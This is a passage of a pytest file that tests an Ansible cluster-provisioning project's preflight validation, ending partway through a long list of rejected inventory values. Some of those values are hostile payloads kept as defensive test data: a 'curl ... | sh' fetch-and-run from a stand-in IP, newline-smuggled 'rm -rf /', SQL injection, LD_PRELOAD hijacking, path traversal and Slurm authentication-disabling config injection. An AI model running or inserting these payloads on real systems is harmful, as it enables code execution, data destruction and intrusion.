# Copyright (c) 2026, trainstack.cluster developers
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A bad inventory value stops preflight, before any host changes, naming the variable.

Two kinds of runs, both in check mode against this machine (connection local):
- the corpus (CORPUS, well over 100 wrong inputs): ONE ansible-playbook run of site.yml's preflight play
  over an inventory with one host per case, the case's values as that host's variables. Each case is
  its own test below: its host must fail in preflight with a message naming the variable, change
  nothing and never reach the next play; a host with good values runs beside them and must pass;
- a handful of real site.yml runs (CASES) proving the end-to-end path stops in the preflight play.
"""

from __future__ import annotations

import fcntl
import json
import os

import pytest

from playbook_support import HAS_ANSIBLE_PLAYBOOK, ROOT, failures_and_changes, preflight_hosts, run_playbook, run_site

# The end-to-end path, one full site.yml run each (about a minute apiece on CI's 2 cores): a host variable's refusal
# stops the run in the preflight play; a group the inventory lacks; an extra var, which outranks the variables ucx
# gives build_artifact (the bootstrap command would run as root). Every other bad value is a corpus case below: the
# corpus runs the same preflight play, one host a case, in one run.
CASES = [
    ("base_hosts_manage", '{"base_hosts_manage": "maybe"}', "base_hosts_manage"),
    ("missing-group", '{"preflight_required_groups": ["slurm_compute"]}', "preflight_required_groups"),
    ("build-bootstrap-extra-var", '{"build_artifact_bootstrap": "id"}', "build_artifact_bootstrap: set by the role that builds ucx"),
]


@pytest.mark.skipif(not HAS_ANSIBLE_PLAYBOOK, reason="ansible-playbook is not beside this Python")
@pytest.mark.parametrize(("extra_vars", "variable"), [case[1:] for case in CASES], ids=[case[0] for case in CASES])
def test_bad_value_stops_in_preflight(extra_vars, variable):
    returncode, report, stderr = run_site(extra_vars)
    failed, changed, plays = failures_and_changes(report)
    assert returncode != 0, stderr
    assert failed, "no task failed"
    assert all(play.startswith("Preflight") for play, text in failed), failed
    assert any(variable in text for play, text in failed), failed
    assert changed == []
    assert plays == [plays[0]] and plays[0].startswith("Preflight"), plays


# Two tags of different plays stand for all: every preflight task is tagged always (test_good_values_pass_preflight
# runs --tags preflight).
@pytest.mark.parametrize("tags", ["slurm", "gpu_stack"])
def test_bad_value_stops_any_tagged_run(tags):
    returncode, report, stderr = run_site('{"base_hosts_manage": "maybe"}', "--tags", tags)
    failed, changed, plays = failures_and_changes(report)
    assert returncode != 0, stderr
    assert any("base_hosts_manage" in text for play, text in failed), failed
    assert changed == [] and plays[0].startswith("Preflight")


def test_good_values_pass_preflight():
    # --tags preflight: validate only, as a user would before a change window.
    returncode, report, stderr = run_site('{"base_chrony_servers": ["10.0.0.1"]}', "--tags", "preflight")
    failed, changed, plays = failures_and_changes(report)
    assert (returncode, failed, changed) == (0, [], []), stderr
    assert plays[0].startswith("Preflight")


# --- The corpus: (case id = inventory host name, host variables, text the failure must contain).
NL = "\n"
PART = {"name": "batch", "nodes": "ALL"}
CORPUS = [
    # slurm.conf through partitions
    ("part-option-newline", {"slurm_partitions": [dict(PART, options={"OverSubscribe": "NO" + NL + "AuthType=auth/none"})]},
     "slurm_partitions[0].options.OverSubscribe contains a newline"),
    ("part-option-hash", {"slurm_partitions": [dict(PART, options={"OverSubscribe": "NO#x"})]},
     "slurm_partitions[0].options.OverSubscribe contains '#'"),
    ("part-option-space", {"slurm_partitions": [dict(PART, options={"OverSubscribe": "NO AuthType=auth/none"})]},
     "slurm_partitions[0].options.OverSubscribe contains a space"),
    ("part-option-key-equals", {"slurm_partitions": [dict(PART, options={"Over=Subscribe": "NO"})]},
     "slurm_partitions[0].options: key 'Over=Subscribe'"),
    ("part-option-unknown", {"slurm_partitions": [dict(PART, options={"OverSubscrib": "NO"})]},
     "unknown key OverSubscrib (did you mean OverSubscribe?)"),
    ("part-option-owned", {"slurm_partitions": [dict(PART, options={"Nodes": "gpu01"})]},
     "slurm_partitions[0].options: key Nodes is set by the role"),
    ("part-option-list", {"slurm_partitions": [dict(PART, options={"AllowGroups": ["a", "b"]})]},
     "slurm_partitions[0].options.AllowGroups must be a string, got a list"),
    ("part-option-cr", {"slurm_partitions": [dict(PART, options={"OverSubscribe": "NO\rState=DOWN"})]},
     "slurm_partitions[0].options.OverSubscribe contains a carriage return"),
    ("part-name-newline", {"slurm_partitions": [{"name": "batch" + NL + "AuthType=auth/none", "nodes": "ALL"}]},
     "slurm_partitions[0].name contains a newline"),
    ("part-name-trailing-newline", {"slurm_partitions": [{"name": "batch" + NL, "nodes": "ALL"}]},
     "slurm_partitions[0].name contains a newline"),
    ("part-name-space", {"slurm_partitions": [{"name": "my batch", "nodes": "ALL"}]},
     "slurm_partitions[0].name contains a space"),
    ("part-nodes-space", {"slurm_partitions": [{"name": "batch", "nodes": "ALL Default=YES"}]},
     "slurm_partitions[0].nodes contains a space"),
    ("part-max-time-newline", {"slurm_partitions": [dict(PART, max_time="UNLIMITED" + NL)]},
     "slurm_partitions[0].max_time contains a newline"),
    ("part-second-bad", {"slurm_partitions": [PART, {"name": "gpu", "nodes": "ALL", "options": {"QOS": "a b"}}]},
     "slurm_partitions[1].options.QOS contains a space"),
    # slurm.conf through slurm_config_extra
    ("extra-newline", {"slurm_config_extra": {"KillWait": "30" + NL + "AuthType=auth/none"}}, "slurm_config_extra.KillWait contains a newline"),
    ("extra-trailing-newline", {"slurm_config_extra": {"KillWait": "30" + NL}}, "slurm_config_extra.KillWait contains a newline"),
    ("extra-authtype", {"slurm_config_extra": {"AuthType": "auth/none"}}, "slurm_config_extra: key AuthType is set by the role"),
    ("extra-slurmuser", {"slurm_config_extra": {"SlurmUser": "root"}}, "slurm_config_extra: key SlurmUser is set by the role"),
    ("extra-statesave", {"slurm_config_extra": {"StateSaveLocation": "/"}}, "slurm_config_extra: key StateSaveLocation"),
    ("extra-typo", {"slurm_config_extra": {"KillWiat": 30}}, "unknown key KillWiat (did you mean KillWait?)"),
    ("extra-key-space", {"slurm_config_extra": {"Kill Wait": 30}}, "slurm_config_extra: key 'Kill Wait' contains a space"),
    ("extra-hash", {"slurm_config_extra": {"KillWait": "30 # x"}}, "slurm_config_extra.KillWait contains"),
    ("extra-empty", {"slurm_config_extra": {"KillWait": ""}}, "slurm_config_extra.KillWait must not be empty"),
    ("extra-cr", {"slurm_config_extra": {"KillWait": "30\rAuthType=auth/none"}}, "slurm_config_extra.KillWait contains a carriage return"),
    ("extra-tab", {"slurm_config_extra": {"KillWait": "30\tx"}}, "slurm_config_extra.KillWait contains a tab"),
    ("extra-list", {"slurm_config_extra": {"KillWait": [1, 2]}}, "slurm_config_extra.KillWait must be a string, got a list"),
    ("extra-dict", {"slurm_config_extra": {"KillWait": {"a": 1}}}, "slurm_config_extra.KillWait must be a string, got a mapping"),
    ("extra-string", {"slurm_config_extra": "KillWait=30"}, "slurm_config_extra must be a mapping"),
    # cgroup.conf
    ("cgroup-newline", {"slurm_cgroup_options": {"AllowedRAMSpace": "100" + NL + "ConstrainDevices=no"}},
     "slurm_cgroup_options.AllowedRAMSpace contains a newline"),
    ("cgroup-owned", {"slurm_cgroup_options": {"ConstrainDevices": "no"}}, "slurm_cgroup_options: key ConstrainDevices is set by the role"),
    ("cgroup-unknown", {"slurm_cgroup_options": {"ConstrainSwap": "yes"}}, "slurm_cgroup_options: unknown key ConstrainSwap"),
    ("cgroup-hash", {"slurm_cgroup_options": {"AllowedRAMSpace": "100#"}}, "slurm_cgroup_options.AllowedRAMSpace contains '#'"),
    # slurmdbd.conf and MariaDB
    ("dbd-extra-newline", {"slurm_dbd_config_extra": {"ArchiveJobs": "yes" + NL + "StorageHost=evil"}},
     "slurm_dbd_config_extra.ArchiveJobs contains a newline"),
    ("dbd-extra-storagehost", {"slurm_dbd_config_extra": {"StorageHost": "evil"}}, "slurm_dbd_config_extra: key StorageHost is set by the role"),
    ("dbd-extra-unknown", {"slurm_dbd_config_extra": {"PurgeJobsAfter": "12months"}}, "unknown key PurgeJobsAfter (did you mean PurgeJobAfter?)"),
    ("dbd-password-newline", {"slurm_dbd_db_password": "pw" + NL + "StorageHost=evil"}, "slurm_dbd_db_password contains a newline"),
    ("dbd-password-tab", {"slurm_dbd_db_password": "pw\t1"}, "slurm_dbd_db_password contains a tab"),
    ("dbd-password-space-and-quote", {"slurm_dbd_db_password": 'pw 1 "x"'},
     "slurm_dbd_db_password contains a space and a double quote"),
    ("dbd-password-list", {"slurm_dbd_db_password": ["x"]}, "slurm_dbd_db_password must be a string, got a list"),
    ("dbd-password-dict", {"slurm_dbd_db_password": {"a": "b"}}, "slurm_dbd_db_password must be a string, got a mapping"),
    ("dbd-name-sql", {"slurm_dbd_db_name": "slurm'; DROP DATABASE mysql; --"}, "slurm_dbd_db_name contains"),
    ("dbd-user-sql", {"slurm_dbd_db_user": "slurm'@'%"}, "slurm_dbd_db_user must be a database name"),
    ("dbd-user-backtick", {"slurm_dbd_db_user": "a`b"}, "slurm_dbd_db_user must be a database name"),
    ("dbd-name-newline", {"slurm_dbd_db_name": "acct" + NL}, "slurm_dbd_db_name contains a newline"),
    ("mariadb-newline", {"slurm_dbd_mariadb_options": {"innodb_buffer_pool_size": "256M" + NL + "[client]"}},
     "slurm_dbd_mariadb_options.innodb_buffer_pool_size contains a newline"),
    ("mariadb-key-space", {"slurm_dbd_mariadb_options": {"bad key": 1}}, "slurm_dbd_mariadb_options: key 'bad key'"),
    ("mariadb-hash", {"slurm_dbd_mariadb_options": {"innodb_lock_wait_timeout": "9 # x"}},
     "slurm_dbd_mariadb_options.innodb_lock_wait_timeout contains '#'"),
    # Slurm words, numbers, paths
    ("cluster-name-trailing-newline", {"slurm_cluster_name": "cluster" + NL}, "slurm_cluster_name contains a newline"),
    ("cluster-name-list", {"slurm_cluster_name": ["a"]}, "slurm_cluster_name must be a string, got a list"),
    ("cluster-name-upper", {"slurm_cluster_name": "Cluster"}, "slurm_cluster_name must be lower case"),
    ("gpu-type-newline", {"slurm_gpu_type": "h100" + NL + "NodeName=x"}, "slurm_gpu_type contains a newline"),
    ("gpu-type-equals", {"slurm_gpu_type": "h100=x"}, "slurm_gpu_type contains '='"),
    ("gpu-type-bool", {"slurm_gpu_type": True}, "slurm_gpu_type must be a string, got a boolean"),
    ("memory-reserve-negative", {"slurm_node_memory_reserve_mib": -1024}, "slurm_node_memory_reserve_mib must be at least 0"),
    ("memory-factor-zero", {"slurm_node_memory_factor": 0}, "slurm_node_memory_factor must be at least"),
    ("memory-factor-high", {"slurm_node_memory_factor": 1.5}, "slurm_node_memory_factor must be at most 1"),
    ("override-cpus-negative", {"slurm_node_overrides": {"cpus": -4}}, "slurm_node_overrides.cpus must be at least 1"),
    ("override-sockets-zero", {"slurm_node_overrides": {"sockets": 0}}, "slurm_node_overrides.sockets must be at least 1"),
    ("override-memory-negative", {"slurm_node_overrides": {"real_memory": -1}}, "slurm_node_overrides.real_memory must be at least 1"),
    ("override-gpus-negative", {"slurm_node_overrides": {"gpu_count": -1}}, "slurm_node_overrides.gpu_count must be at least 0"),
    ("override-gpu-type-newline", {"slurm_node_overrides": {"gpu_type": "a" + NL + "b"}}, "slurm_node_overrides.gpu_type contains a newline"),
    ("override-feature-space", {"slurm_node_overrides": {"features": ["a b"]}}, "slurm_node_overrides.features[0] contains a space"),
    ("override-gpu-file-relative", {"slurm_node_overrides": {"gpu_files": ["nvidia0"]}}, "slurm_node_overrides.gpu_files[0] must be an absolute path"),
    ("override-gpu-file-dotdot", {"slurm_node_overrides": {"gpu_files": ["/dev/../etc/passwd"]}}, "slurm_node_overrides.gpu_files[0] must not contain '..'"),
    ("override-option-newline", {"slurm_node_overrides": {"options": {"CoreSpecCount": "1" + NL + "NodeName=x"}}},
     "slurm_node_overrides.options.CoreSpecCount contains a newline"),
    ("override-option-owned", {"slurm_node_overrides": {"options": {"RealMemory": 1}}}, "slurm_node_overrides.options: key RealMemory is set by the role"),
    ("override-option-unknown", {"slurm_node_overrides": {"options": {"Wieght": 1}}}, "slurm_node_overrides.options: unknown key Wieght"),
    ("override-unknown-field", {"slurm_node_overrides": {"cpu": 4}}, "slurm_node_overrides: unknown key cpu (did you mean cpus?)"),
    ("state-save-root", {"slurm_state_save_location": "/"}, "slurm_state_save_location is a system directory"),
    ("state-save-etc", {"slurm_state_save_location": "/etc"}, "slurm_state_save_location is a system directory"),
    ("state-save-var-lib", {"slurm_state_save_location": "/var/lib"}, "slurm_state_save_location is a system directory"),
    ("state-save-relative", {"slurm_state_save_location": "var/lib/slurm"}, "slurm_state_save_location must be an absolute path"),
    ("state-save-dotdot", {"slurm_state_save_location": "/var/lib/slurm/../../etc"}, "slurm_state_save_location must not contain '..'"),
    ("state-save-trailing-slash", {"slurm_state_save_location": "/var/lib/slurm/"}, "slurm_state_save_location must be normalised"),
    ("state-save-double-slash", {"slurm_state_save_location": "//var/lib/slurm"}, "slurm_state_save_location must be normalised"),
    ("state-save-newline", {"slurm_state_save_location": "/var/lib/slurm" + NL + "AuthType=auth/none"}, "slurm_state_save_location contains a newline"),
    ("spool-relative", {"slurm_slurmd_spool_dir": "spool/slurmd"}, "slurm_slurmd_spool_dir must be an absolute path"),
    ("spool-usr", {"slurm_slurmd_spool_dir": "/usr/lib/slurm"}, "slurm_slurmd_spool_dir is a system directory"),
    ("spool-proc", {"slurm_slurmd_spool_dir": "/proc/sys"}, "slurm_slurmd_spool_dir is a system directory"),
    ("verify-timeout-zero", {"slurm_verify_timeout": 0}, "slurm_verify_timeout must be at least 1"),
    ("verify-ignore-newline", {"slurm_verify_ignore_nodes": "gpu01" + NL}, "slurm_verify_ignore_nodes contains a newline"),
    ("slurm-package-option", {"slurm_packages_extra": ["-o=Dpkg::Options::=--force-all"]}, "slurm_packages_extra[0] must be a package name"),
    ("slurm-return-to-service", {"slurm_return_to_service": 5}, "slurm_return_to_service"),
    ("slurm-mpi-default", {"slurm_mpi_default": "openmpi"}, "slurm_mpi_default"),
    # nccl.conf
    ("nccl-value-newline", {"nccl_settings": {"NCCL_DEBUG": "WARN" + NL + "NCCL_GRAPH_FILE=/tmp/g"}}, "nccl_settings.NCCL_DEBUG contains a newline"),
    ("nccl-value-space", {"nccl_settings": {"NCCL_DEBUG": "WARN INFO"}}, "nccl_settings.NCCL_DEBUG contains a space"),
    # NCCL settings checked for meaning (issue 25, item 7): a switch is 0 or 1, the bootstrap interface is never loopback
    ("nccl-switch-word", {"nccl_settings": {"NCCL_IB_DISABLE": "yes"}}, "NCCL_IB_DISABLE is a switch: 0 or 1"),
    ("nccl-socket-loopback", {"nccl_settings": {"NCCL_SOCKET_IFNAME": "=lo"}}, "NCCL_SOCKET_IFNAME =lo is the loopback interface"),
    ("nccl-value-hash", {"nccl_settings": {"NCCL_DEBUG": "WARN#"}}, "nccl_settings.NCCL_DEBUG contains '#'"),
    ("nccl-value-list", {"nccl_settings": {"NCCL_DEBUG": ["WARN"]}}, "nccl_settings.NCCL_DEBUG must be a string, got a list"),
    ("nccl-key-lower", {"nccl_settings": {"nccl_debug": "WARN"}}, "nccl_settings: key 'nccl_debug' must be an NCCL variable name"),
    ("nccl-key-newline", {"nccl_settings": {"NCCL_DEBUG" + NL + "NCCL_GRAPH_FILE": "x"}}, "nccl_settings: key"),
    ("nccl-settings-string", {"nccl_settings": "NCCL_DEBUG=INFO"}, "nccl_settings must be a mapping"),
    ("nccl-ifname-newline", {"nccl_management_interface": "eth0" + NL + "NCCL_GRAPH_FILE=/tmp/g"}, "nccl_management_interface contains a newline"),
    ("nccl-ifname-space", {"nccl_management_interface": "eth0 eth1"}, "nccl_management_interface contains a space"),
    ("nccl-ifname-long", {"nccl_management_interface": "averyveryverylongname0"}, "nccl_management_interface must be interface names of at most 15"),
    ("nccl-ifname-list", {"nccl_management_interface": ["eth0"]}, "nccl_management_interface must be a string, got a list"),
    ("nccl-conf-passwd", {"nccl_conf_path": "/etc/passwd"}, "nccl_conf_path must name an NCCL configuration file"),
    ("nccl-conf-relative", {"nccl_conf_path": "nccl.conf"}, "nccl_conf_path must be an absolute path"),
    ("nccl-conf-dotdot", {"nccl_conf_path": "/etc/../etc/nccl.conf"}, "nccl_conf_path must not contain '..'"),
    ("nccl-conf-sudoers", {"nccl_conf_path": "/etc/sudoers.d/nccl.conf"}, "nccl_conf_path is a system directory"),
    ("nccl-topology-passwd", {"nccl_topology_path": "/etc/passwd"}, "nccl_topology_path must name an .xml file"),
    ("nccl-topology-relative", {"nccl_topology_path": "topology.xml"}, "nccl_topology_path must be an absolute path"),
    ("nccl-version-newline", {"nccl_version": "2.26.2-1+cuda12.8" + NL}, "nccl_version contains a newline"),
    ("nccl-backup-word", {"nccl_backup": "sometimes"}, "nccl_backup"),
    # chrony.conf and /etc/hosts
    ("chrony-pool-newline", {"base_chrony_pools": ["pool.ntp.org" + NL + "allow all"]}, "base_chrony_pools[0] contains a newline"),
    ("chrony-server-space", {"base_chrony_servers": ["10.0.0.1 iburst"]}, "base_chrony_servers[0] contains a space"),
    ("chrony-server-hash", {"base_chrony_servers": ["10.0.0.1#"]}, "base_chrony_servers[0] contains '#'"),
    ("chrony-server-trailing-newline", {"base_chrony_servers": ["10.0.0.1" + NL]}, "base_chrony_servers[0] contains a newline"),
    ("chrony-server-bad-name", {"base_chrony_servers": ["-ntp-"]}, "base_chrony_servers[0] must be a DNS name or an IP address"),
    ("chrony-second-server", {"base_chrony_servers": ["10.0.0.1", "ntp" + NL + "allow all"]}, "base_chrony_servers[1] contains a newline"),
    ("chrony-makestep-newline", {"base_chrony_makestep": "1.0 3" + NL + "allow all"}, "base_chrony_makestep contains a newline"),
    ("chrony-makestep-word", {"base_chrony_makestep": "fast"}, "base_chrony_makestep must be a threshold in seconds and a count"),
    ("chrony-makestep-list", {"base_chrony_makestep": ["1.0", "3"]}, "base_chrony_makestep must be a string, got a list"),
    ("hosts-address-octet", {"base_host_address": "999.1.1.1"}, "base_host_address must be an IPv4 or IPv6 address"),
    ("hosts-address-newline", {"base_host_address": "10.0.0.1" + NL}, "base_host_address contains a newline"),
    ("hosts-address-extra-name", {"base_host_address": "10.0.0.1 evil.example"}, "base_host_address"),
    ("hosts-address-ipv6-bad", {"base_host_address": "fd00::g"}, "base_host_address must be an IPv4 or IPv6 address"),
    ("hosts-address-list", {"base_host_address": ["10.0.0.1"]}, "base_host_address must be a string, got a list"),
    ("hosts-address-name", {"base_host_address": "gpu-01"}, "base_host_address"),
    ("nccl-graph-file", {"nccl_settings": {"NCCL_GRAPH_FILE": "/tmp/graph.xml"}}, "nccl_settings: NCCL_GRAPH_FILE"),
    ("nccl-unknown-key", {"nccl_settings": {"NCCL_MAGIC": "1"}}, "nccl_settings: unknown key NCCL_MAGIC"),
    ("hosts-manage-word", {"base_hosts_manage": "maybe"}, "base_hosts_manage"),
    ("hosts-groups-space", {"base_hosts_groups": ["all nodes"]}, "base_hosts_groups[0] contains a space"),
    ("base-package-newline", {"base_packages_extra": ["vim" + NL + "evil"]}, "base_packages_extra[0] contains a newline"),
    ("base-packages-dict", {"base_packages_extra": {"a": 1}}, "base_packages_extra"),
    ("no-time-source", {"base_chrony_pools": [], "base_chrony_servers": []}, "base_chrony_pools"),
    # apt sources and the driver
    ("local-repo-newline", {"nvidia_driver_local_repo_url": "file:///srv/m" + NL + "URIs: http://evil"}, "nvidia_driver_local_repo_url contains a newline"),
    ("local-repo-space", {"nvidia_driver_local_repo_url": "file:///srv/m http://evil"}, "nvidia_driver_local_repo_url contains a space"),
    ("local-repo-shared-newline", {"trainstack_gpu_local_repo_url": "file:///srv/m" + NL + "Trusted: yes"}, "trainstack_gpu_local_repo_url contains a newline"),
    ("debian-mirror-newline", {"nvidia_driver_debian_mirror": "http://deb.debian.org/debian" + NL + "URIs: http://evil"},
     "nvidia_driver_debian_mirror contains a newline"),
    ("debian-mirror-ftp", {"nvidia_driver_debian_security_mirror": "ftp://deb.debian.org/debian-security"},
     "nvidia_driver_debian_security_mirror must be an http://, https:// or file:// URL"),
    ("cuda-repo-hash", {"nvidia_driver_cuda_repo_url": "https://example/#x"}, "nvidia_driver_cuda_repo_url contains '#'"),
    ("apt-proxy-quote", {"nvidia_driver_apt_proxy": 'http://proxy:3142";'}, "nvidia_driver_apt_proxy must be an http:// or https:// proxy URL"),
    ("apt-proxy-newline", {"trainstack_apt_proxy": "http://proxy:3142" + NL + "Acquire::x"}, "trainstack_apt_proxy contains a newline"),
    ("apt-proxy-socks", {"nvidia_driver_apt_proxy": "socks5://proxy:1080"}, "nvidia_driver_apt_proxy must be an http:// or https:// proxy URL"),
    ("key-fingerprint-short", {"nvidia_driver_cuda_repo_key_fingerprint": "3BF863CC"}, "nvidia_driver_cuda_repo_key_fingerprint must be the 40 hex digits"),
    ("rpm-fingerprint-newline", {"nvidia_driver_cuda_repo_rpm_key_fingerprint": "610C7B14E068A878070D37D1B4B8CAE7D42D0685" + NL},
     "nvidia_driver_cuda_repo_rpm_key_fingerprint contains a newline"),
    ("driver-branch-unknown", {"nvidia_driver_branch": "999"}, "nvidia_driver_branch 999 is unknown"),
    ("driver-branch-old", {"nvidia_driver_branch": "390"}, "nvidia_driver_branch 390 is unknown"),
    ("driver-branch-newline", {"nvidia_driver_branch": "580" + NL}, "nvidia_driver_branch contains a newline"),
    ("driver-branch-dict", {"nvidia_driver_branch": {"a": 1}}, "nvidia_driver_branch must be a string, got a mapping"),
    ("driver-version-newline", {"nvidia_driver_version": "580.95.05" + NL}, "nvidia_driver_version contains a newline"),
    ("driver-version-other-branch", {"nvidia_driver_version": "570.133.20"}, "nvidia_driver_version"),
    ("drain-poll-zero", {"nvidia_driver_reboot_drain_poll": 0}, "nvidia_driver_reboot_drain_poll must be at least 1"),
    ("drain-poll-negative", {"nvidia_driver_reboot_drain_poll": -5}, "nvidia_driver_reboot_drain_poll must be at least 1"),
    ("drain-timeout-negative", {"nvidia_driver_reboot_drain_timeout": -1}, "nvidia_driver_reboot_drain_timeout must be at least 1"),
    ("reboot-timeout-zero", {"nvidia_driver_reboot_timeout": 0}, "nvidia_driver_reboot_timeout must be at least 1"),
    ("boot-command-newline", {"nvidia_driver_reboot_boot_time_command": "cat /x" + NL + "rm -rf /"},
     "nvidia_driver_reboot_boot_time_command contains a newline"),
    ("drain-controller-space", {"nvidia_driver_reboot_slurm_controller": "ctl 1"}, "nvidia_driver_reboot_slurm_controller contains a space"),
    ("kernel-module-type", {"nvidia_driver_kernel_module_type": "opn"}, "nvidia_driver_kernel_module_type"),
    ("fabricmanager-word", {"nvidia_driver_fabricmanager": "yes"}, "nvidia_driver_fabricmanager"),
    ("reboot-timeout-word", {"nvidia_driver_reboot_timeout": "soon"}, "nvidia_driver_reboot_timeout"),
    # cuda
    ("cuda-version-newline", {"cuda_version": "12.8" + NL}, "cuda_version contains a newline"),
    ("cuda-version-word", {"cuda_version": "twelve"}, "cuda_version must be CUDA major.minor"),
    ("cuda-compiler-option", {"cuda_host_compiler": "g++-11 -o /etc/passwd"}, "cuda_host_compiler contains a space"),
    ("cudnn-version-newline", {"cuda_cudnn_version": "9.8.0.87-1" + NL}, "cuda_cudnn_version contains a newline"),
    ("cuda-source-choice", {"cuda_source": "pip"}, "cuda_source"),
    ("cuda-verify-word", {"cuda_verify": "perhaps"}, "cuda_verify"),
    # rdma: the source switch, DOCA-Host repository and gdrcopy
    ("rdma-source-local", {"rdma_source": "local"}, "rdma_source must be one of"),
    ("rdma-source-newline", {"rdma_source": "doca_repo" + NL}, "rdma_source"),
    ("rdma-doca-version-newline", {"rdma_doca_version": "3.2.1" + NL}, "rdma_doca_version contains a newline"),
    ("rdma-doca-version-latest", {"rdma_doca_version": "latest"}, "rdma_doca_version must be a DOCA release such as 3.2.1"),
    ("rdma-doca-version-dotdot", {"rdma_doca_version": "3.2.1/../../x"}, "rdma_doca_version must be a DOCA release"),
    ("rdma-doca-url-newline", {"rdma_doca_repo_url": "https://linux.mellanox.com/public/repo/doca" + NL + "URIs: http://evil"},
     "rdma_doca_repo_url contains a newline"),
    ("rdma-doca-url-space", {"rdma_doca_repo_url": "https://linux.mellanox.com/x http://evil"}, "rdma_doca_repo_url contains a space"),
    ("rdma-doca-fingerprint-short", {"rdma_doca_repo_key_fingerprint": "A024F6F0E6D6A281"}, "rdma_doca_repo_key_fingerprint must be the 40 hex digits"),
    ("rdma-doca-fingerprint-missing", {"rdma_source": "doca_repo", "rdma_doca_os_dir": "debian12"},
     "rdma_doca_repo_key_fingerprint must be the 40 hex digits"),
    ("rdma-doca-os-dir-climb", {"rdma_source": "doca_repo", "rdma_doca_os_dir": "debian12/../../x",
                                "rdma_doca_repo_key_fingerprint": "28E10FC45DFC4A7CA8B581B7DA4822E16F30A369"}, "rdma_doca_os_dir"),
    ("rdma-gdrcopy-version-space", {"rdma_gdrcopy_version": "2.5.1 evil"}, "rdma_gdrcopy_version contains a space"),
    ("rdma-gdrcopy-version-word", {"rdma_gdrcopy_version": "newest"}, "rdma_gdrcopy_version must be a gdrcopy release"),
    ("rdma-gdrcopy-word", {"rdma_gdrcopy": "perhaps"}, "rdma_gdrcopy"),
    ("typo-rdma-source", {"rdma_sorce": "doca_repo"}, "(did you mean rdma_source?)"),
    # preflight itself
    ("preflight-python", {"preflight_min_python": "three"}, "preflight_min_python"),
    ("preflight-python-newline", {"preflight_min_python": "3.9" + NL}, "preflight_min_python contains a newline"),
    ("preflight-os", {"preflight_supported_os": {"Plan9": ["4"]}}, "preflight_supported_os"),
    ("preflight-allow-newline", {"preflight_allow_unknown_keys": ["slurm_config_extra" + NL]}, "preflight_allow_unknown_keys[0] contains a newline"),
    # typos: a prefixed variable no role declares
    ("typo-partitions", {"slurm_partitoins": []}, "slurm_partitoins is not a variable of any role (did you mean slurm_partitions?)"),
    ("gpu-hold-word", {"trainstack_gpu_hold": "maybe"}, "trainstack_gpu_hold must be true or false, got a string"),
    ("mpi-switch-list", {"trainstack_mpi": ["node1"]}, "trainstack_mpi must be true or false, got a list"),
    ("typo-nccl-settings", {"nccl_setings": {}}, "nccl_setings is not a variable of any role (did you mean nccl_settings?)"),
    ("typo-chrony-server", {"base_chrony_server": ["10.0.0.1"]}, "(did you mean base_chrony_servers?)"),
    ("typo-cuda-version", {"cuda_verison": "12.8"}, "(did you mean cuda_version?)"),
    ("typo-driver-branch", {"nvidia_driver_brnach": "580"}, "(did you mean nvidia_driver_branch?)"),
    ("typo-gpu-source", {"trainstack_gpu_sorce": "cuda_repo"}, "(did you mean trainstack_gpu_source?)"),
    ("typo-required-group", {"preflight_required_group": ["all"]}, "(did you mean preflight_required_groups?)"),
    ("typo-dbd-password", {"slurm_dbd_password": "x"}, "slurm_dbd_password is not a variable of any role"),
    ("typo-memory-reserve", {"slurm_node_memory_reserve": 1024}, "(did you mean slurm_node_memory_reserve_mib?)"),
    # the training half: ucx, openmpi, nccl_tests, build_artifact, pytorch (meta/value_formats.yml of each)
    ("ucx-version-newline", {"ucx_version": "1.13.1" + NL}, "ucx_version contains a newline"),
    ("ucx-url-space", {"ucx_url": "https://example.org/ucx.tar.gz https://evil"}, "ucx_url contains a space"),
    ("ucx-configure-newline", {"ucx_configure_extra": ["--enable-mt" + NL + "touch /pwned"]}, "ucx_configure_extra[0] contains a newline"),
    ("openmpi-version-newline", {"openmpi_version": "4.1.4" + NL}, "openmpi_version contains a newline"),
    ("openmpi-mirror-relative", {"openmpi_mirror_dir": "mirror/openmpi"}, "openmpi_mirror_dir must be an absolute path"),
    ("nccl-tests-commit-newline", {"nccl_tests_git_commit": "a0b82b2260cf5152b9f8c061bbf7eaf0ba096432" + NL},
     "nccl_tests_git_commit contains a newline"),
    ("nccl-tests-package-option", {"nccl_tests_build_packages": ["--allow-unauthenticated"]}, "nccl_tests_build_packages[0]"),
    # what the calling role sets for build_artifact: never from the inventory or extra vars (issue 25)
    ("build-bootstrap-override", {"build_artifact_bootstrap": "curl -s http://198.51.100.7/x | sh"},
     "build_artifact_bootstrap: set by the role that builds ucx from its own variables"),
    ("build-flags-env-override", {"build_artifact_configure_flags": ["--prefix=/etc"], "build_artifact_env": {"LD_PRELOAD": "/tmp/x.so"}},
     "build_artifact_configure_flags, build_artifact_env: set by the role that builds ucx"),
    # a version word instead of a version, refused under the user's name before any filter reads it
    ("ucx-version-latest", {"ucx_version": "latest"}, "ucx_version must"),
    ("openmpi-version-latest", {"openmpi_version": "latest"}, "openmpi_version must"),
    ("nccl-tests-version-latest", {"nccl_tests_version": "latest"}, "nccl_tests_version must"),
    ("pytorch-version-latest", {"pytorch_version": "latest"}, "pytorch_version must"),
    # acceptance (validate.yml's variables), refused in site.yml's preflight too
    ("acceptance-mpi-env-preload", {"acceptance_mpi_environment": {"UCX_TLS": "rc", "LD_PRELOAD": "/tmp/x.so"}},
     "acceptance_mpi_environment: key 'LD_PRELOAD' must be a variable of the MPI stack"),
    ("acceptance-report-name-dotdot", {"acceptance_report_basename": "../../etc/cron.d/x"}, "acceptance_report_basename"),
    ("acceptance-ranks-zero", {"acceptance_mpi_ranks_per_node": 0}, "acceptance_mpi_ranks_per_node"),
    # older roles' gaps (issue 25, item 7)
    ("hosts-groups-unknown", {"base_hosts_groups": ["all", "gpu_nodes"]}, "base_hosts_groups names gpu_nodes, which the inventory does not have"),
    ("verify-ignore-unbalanced", {"slurm_verify_ignore_nodes": "gpu[01-"}, "slurm_verify_ignore_nodes must be a Slurm hostlist"),
    ("verify-ignore-reversed", {"slurm_verify_ignore_nodes": "gpu[4-1]"}, "reversed range"),
    ("build-root-system", {"build_artifact_root": "/usr"}, "build_artifact_root is a system directory"),
    ("build-dir-dotdot", {"build_artifact_build_dir": "/var/tmp/../etc"}, "build_artifact_build_dir must not contain '..'"),
    ("pytorch-venv-root", {"pytorch_venv": "/"}, "pytorch_venv is a system directory"),
    ("pytorch-venv-trailing-space", {"pytorch_venv": "/opt/venv "}, "pytorch_venv contains a space"),
